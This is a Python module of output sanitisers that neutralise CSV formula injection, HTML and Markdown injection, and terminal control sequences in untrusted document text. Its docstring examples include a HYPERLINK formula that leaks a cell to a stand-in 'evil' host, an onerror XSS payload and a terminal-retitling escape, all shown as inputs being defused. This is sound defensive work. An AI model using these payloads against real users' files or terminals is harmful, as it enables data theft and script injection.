"""Document text made harmless where people open it: spreadsheets, Markdown
and the terminal.

The text of an order is untrusted: an agency name may begin with ``=``, a
definition may hold ``<script>``, a touchpoint an ESC sequence. The readers
already drop control characters; these functions are the last line at each
output, so a JSON written by an older version (or by hand) is safe too.

- :func:`csv_text`: a cell beginning with ``= + - @``, TAB or CR gets a
  leading ``'`` (OWASP, "CSV injection"), so Excel and LibreOffice show it
  as text instead of running it as a formula;
- :func:`xlsx_text`: the characters XML 1.0 cannot hold removed (openpyxl
  would raise ``IllegalCharacterError``); the writers also mark every string
  cell as a string (:func:`as_string_cell`), never a formula;
- :func:`md_text`: HTML and the Markdown that makes links, images, emphasis
  and table cells written as text;
- :func:`terminal_text`: C0/C1 control characters (ESC, OSC, NUL, CR …)
  shown as ``\\x1b`` instead of sent to the terminal;
  :func:`clean_strings` applies it to every string of a model.

Example::

    >>> csv_text('=HYPERLINK("http://evil/?leak="&A1,"x")')
    '\\'=HYPERLINK("http://evil/?leak="&A1,"x")'
    >>> md_text("<img src=x onerror=alert(1)> [a](javascript:x)")
    '&lt;img src=x onerror=alert(1)&gt; \\\\[a\\\\](javascript:x)'
    >>> terminal_text("pwn\\x1b]0;title\\x07")
    'pwn\\\\x1b]0;title\\\\x07'
"""

from __future__ import annotations

import re
from typing import Any, Callable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# what XML 1.0 (so XLSX) cannot hold: C0 controls other than TAB, LF, CR; U+FFFE/U+FFFF
_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
# sent to a terminal: C0 controls but TAB and LF, DEL, C1 controls (U+0080–U+009F: 8-bit CSI/OSC),
# and the bidirectional overrides that reorder what is shown
_TERMINAL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
_MD_PUNCT = re.compile(r"([\\`*\[\]|~])")  # not "_": codes like not_loaded stay readable, and an intraword _ is no emphasis
_HTML = {"&": "&amp;", "<": "&lt;", ">": "&gt;"}


def csv_text(v: Any) -> Any:
    """A CSV cell's value: strings that a spreadsheet would read as a formula get a leading ``'``."""
    if isinstance(v, str):
        v = _XML_ILLEGAL.sub("", v)
        if v.startswith(FORMULA_START):
            return "'" + v
    return v


def xlsx_text(v: Any) -> Any:
    """A string without the characters an XLSX cannot hold (other values as they are)."""
    return _XML_ILLEGAL.sub("", v) if isinstance(v, str) else v


def as_string_cell(c) -> None:
    """An openpyxl cell that was given a string keeps it as text: openpyxl makes any
    string starting with ``=`` a formula and ``#N/A`` an error value."""
    if c.data_type in ("f", "e") and isinstance(c.value, str):
        c.data_type = "s"


def md_text(s: str | None) -> str:
    """Text for a Markdown table cell or paragraph: no raw HTML, no link or image
    syntax, no emphasis, pipes and line breaks that keep the table a table."""
    s = "".join(_HTML.get(ch, ch) for ch in (s or ""))
    s = _MD_PUNCT.sub(r"\\\1", s)
    return " ".join(s.split()) if "\n" in s or "\r" in s else s


def terminal_text(s: str) -> str:
    """Control characters shown as escapes (``\\x1b``), so document text cannot
    move the cursor, clear the screen or retitle the terminal."""
    return _TERMINAL.sub(lambda m: f"\\x{ord(m.group()):02x}" if ord(m.group()) < 0x100
                         else f"\\u{ord(m.group()):04x}", s)


def clean_strings(obj: Any, fn: Callable[[str], str] = terminal_text) -> Any:
    """``obj`` (JSON-like: dicts, lists, strings) with ``fn`` applied to every string value (keys are field names)."""
    if isinstance(obj, str):
        return fn(obj)
    if isinstance(obj, dict):
        return {k: clean_strings(v, fn) for k, v in obj.items()}
    if isinstance(obj, list):
        return [clean_strings(v, fn) for v in obj]
    return obj
